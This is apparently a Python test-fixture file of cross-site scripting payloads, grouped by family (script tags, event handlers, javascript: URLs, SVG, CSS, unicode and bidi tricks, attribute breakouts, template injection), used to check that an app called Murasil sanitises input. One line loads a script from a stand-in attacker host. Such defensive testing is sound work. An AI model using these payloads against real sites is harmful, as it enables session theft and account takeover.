"""The XSS battery's payloads, written for Murasil's tests: one list, by family.

Each payload calls `__xss(n)` or `alert(n)` if it ever runs, so the browser sample can trap it
(tests/browser/test_xss_browser.py); the server-side battery parses every response instead and looks
for anything the payload could have introduced (tests/security/checks.py).
"""

FULLWIDTH_LT, FULLWIDTH_GT = "\uff1c", "\uff1e"
ZWSP, ZWJ, ZWNJ, BOM = "\u200b", "\u200d", "\u200c", "\ufeff"
RLO, LRO, PDF, RLE = "\u202e", "\u202d", "\u202c", "\u202b"

SCRIPT_TAGS = [
    "<script>__xss(1)</script>",
    "<SCRIPT>__xss(2)</SCRIPT>",
    "<ScRiPt>__xss(3)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,__xss(5)></script>",
    '<script type="text/javascript">__xss(6)</script>',
    "<script>/*</script><script>*/__xss(7)</script>",
    "<<script>__xss(8)//<</script>",
    "<scr<script>ipt>__xss(9)</scr</script>ipt>",
    "</title><script>__xss(10)</script>",
    "</textarea><script>__xss(11)</script>",
    "</style><script>__xss(12)</script>",
    '<noscript><p title="</noscript><img src=x onerror=__xss(13)>">',
    "<template><script>__xss(14)</script></template>",
    "<script\n>__xss(15)</script\n>",
    "<!--<script>__xss(16)</script>-->",
    "<![CDATA[<script>__xss(17)</script>]]>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=__xss(20)>",
    "<IMG SRC=x ONERROR=__xss(21)>",
    '<img src=x onerror="__xss(22)">',
    "<img/src=x/onerror=__xss(23)>",
    "<img src=x onerror\n=__xss(24)>",
    "<body onload=__xss(25)>",
    '<div onmouseover="__xss(26)">مرر هنا</div>',
    "<p onclick=alert(27)>انقر</p>",
    "<a href=# onfocus=__xss(28) autofocus>x</a>",
    "<input autofocus onfocus=__xss(29)>",
    "<details open ontoggle=__xss(30)>",
    "<video><source onerror=__xss(31)></video>",
    "<audio src=x onerror=__xss(32)>",
    "<marquee onstart=__xss(33)>x</marquee>",
    "<select autofocus onfocus=__xss(34)>",
    "<textarea autofocus onfocus=__xss(35)>",
    "<iframe onload=__xss(36)></iframe>",
    "<object data=x onerror=__xss(37)>",
    "<img src=x:x onerror=&#95;&#95;xss(38)>",
    '<div style="width:100px" onpointerenter=__xss(39)>x</div>',
    "<form><button formaction=javascript:__xss(40)>x</button></form>",
    "<isindex type=image src=1 onerror=__xss(41)>",
]

JAVASCRIPT_URLS = [
    '<a href="javascript:__xss(50)">رابط</a>',
    '<a href="JaVaScRiPt:__xss(51)">رابط</a>',
    '<a href=" javascript:__xss(52)">رابط</a>',
    '<a href="java\tscript:__xss(53)">رابط</a>',
    '<a href="java\nscript:__xss(54)">رابط</a>',
    '<a href="jav&#x09;ascript:__xss(55)">رابط</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss(56)">رابط</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__xss(57)">رابط</a>',
    '<a href="javascript&colon;__xss(58)">رابط</a>',
    '<a href="\x01javascript:__xss(59)">رابط</a>',
    '<a href="vbscript:msgbox(60)">رابط</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcyg2MSk8L3NjcmlwdD4=">رابط</a>',
    '<a href="data:text/html,<script>__xss(62)</script>">رابط</a>',
    '<img src="javascript:__xss(63)">',
    '<iframe src="javascript:__xss(64)"></iframe>',
    '<iframe srcdoc="<script>__xss(65)</script>"></iframe>',
    '<embed src="javascript:__xss(66)">',
    '<object data="javascript:__xss(67)"></object>',
    '<a href="javascript:void(0)" onclick="__xss(68)">x</a>',
    "javascript:__xss(69)",
    "JAVASCRIPT:__xss(70)//https://example.org",
    '<base href="javascript:__xss(71)//">',
    '<form action="javascript:__xss(72)"><input type=submit></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss(73)">',
    '<a href="data:image/svg+xml,<svg onload=__xss(74)>">رابط</a>',
]

SVG_MATHML = [
    "<svg onload=__xss(80)>",
    "<svg><script>__xss(81)</script></svg>",
    '<svg><a xlink:href="javascript:__xss(82)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=__xss(83) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:__xss(84)>",
    "<svg><foreignObject><img src=x onerror=__xss(85)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(86)>",
    '<math href="javascript:__xss(87)">x</math>',
    "<svg><style><img src=x onerror=__xss(88)></style></svg>",
    "<svg/onload=__xss(89)//",
]

CSS_TRICKS = [
    '<div style="background:url(javascript:__xss(90))">x</div>',
    '<div style="width:expression(__xss(91))">x</div>',
    '<p style="behavior:url(x.htc)">x</p>',
    "<style>@import 'javascript:__xss(93)';</style>",
    '<style>body{background:url("javascript:__xss(94)")}</style>',
    '<link rel=stylesheet href="javascript:__xss(95)">',
    '<div style="-moz-binding:url(x.xml#xss)">x</div>',
    '<p style="position:fixed;inset:0;z-index:99999;background:red">تغطية الصفحة</p>',
    '<div style="x:\\65xpression(__xss(98))">x</div>',
]

UNICODE_TRICKS = [
    f"{FULLWIDTH_LT}script{FULLWIDTH_GT}__xss(100){FULLWIDTH_LT}/script{FULLWIDTH_GT}",
    f"{FULLWIDTH_LT}img src=x onerror=__xss(101){FULLWIDTH_GT}",
    f"<{ZWSP}script>__xss(102)</script>",
    f"<scr{ZWJ}ipt>__xss(103)</script>",
    f'<a href="java{ZWSP}script:__xss(104)">رابط</a>',
    f'<a href="{BOM}javascript:__xss(105)">رابط</a>',
    "\u003cscript\u003e__xss(106)\u003c/script\u003e",
    "%3Cscript%3E__xss(107)%3C/script%3E",
    "&lt;script&gt;__xss(108)&lt;/script&gt;",
    "\\u003cscript\\u003e__xss(109)\\u003c/script\\u003e",
    "<scr\x00ipt>__xss(110)</scr\x00ipt>",
    f"اسم{ZWNJ}عربي <img src=x onerror=__xss(111)>",
    "\ufe64script\ufe65__xss(112)\ufe64/script\ufe65",
]

BIDI = [
    f"{RLO}gpj.exe",
    f"مراسل{RLO}<script>__xss(121)</script>",
    f'<a href="https://evil.example/">{RLO}moc.elpmaxe.www</a>',
    f"{LRO}مرحبا{PDF} <img src=x onerror=__xss(123)>",
    f"{RLE}نص مضمن{PDF}",
    f"تعليق {RLO}تعكس الاتجاه",
]

BREAKOUTS = [
    '"><script>__xss(130)</script>',
    "'><script>__xss(131)</script>",
    '" onmouseover="__xss(132)" x="',
    "' onfocus='__xss(133)' autofocus x='",
    '" autofocus onfocus=__xss(134) "',
    "`><img src=x onerror=__xss(135)>",
    '"/><svg onload=__xss(136)>',
    "</a><script>__xss(137)</script>",
    "</p></div></article><img src=x onerror=__xss(138)>",
    "--><script>__xss(139)</script><!--",
    "]]><script>__xss(140)</script>",
    '"><iframe src=javascript:__xss(141)>',
    'https://example.org/"onmouseover="__xss(142)',
    "https://example.org/'><script>__xss(143)</script>",
    "http://x.example/<script>__xss(144)</script>",
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}{{ log }}",
    "{{request.user.password}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('__xss(158)')()}}",
    "[[${7*7}]]",
]

JSON_LD = [
    "</script><script>__xss(170)</script>",
    '"}</script><script>__xss(171)</script>',
    "</SCRIPT ><script>__xss(172)</script>",
    "<!--<script>",
    '\\"}]}</script><img src=x onerror=__xss(174)>',
    "\u2028\u2029</script>",
]

FAMILIES = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "javascript/data URLs": JAVASCRIPT_URLS,
    "SVG/MathML": SVG_MATHML,
    "CSS": CSS_TRICKS,
    "unicode": UNICODE_TRICKS,
    "bidi": BIDI,
    "attribute breakouts": BREAKOUTS,
    "template injection": TEMPLATE_INJECTION,
    "JSON-LD breakouts": JSON_LD,
}

PAYLOADS: list[str] = [payload for family in FAMILIES.values() for payload in family]

# The browser sample: one or two of each family that would run in a page if they got through.
BROWSER_SAMPLE: list[str] = [
    SCRIPT_TAGS[0],
    SCRIPT_TAGS[12],
    EVENT_HANDLERS[0],
    EVENT_HANDLERS[9],
    JAVASCRIPT_URLS[5],
    SVG_MATHML[0],
    SVG_MATHML[6],
    CSS_TRICKS[0],
    BREAKOUTS[0],
    BREAKOUTS[2],
    JSON_LD[0],
    UNICODE_TRICKS[0],
]
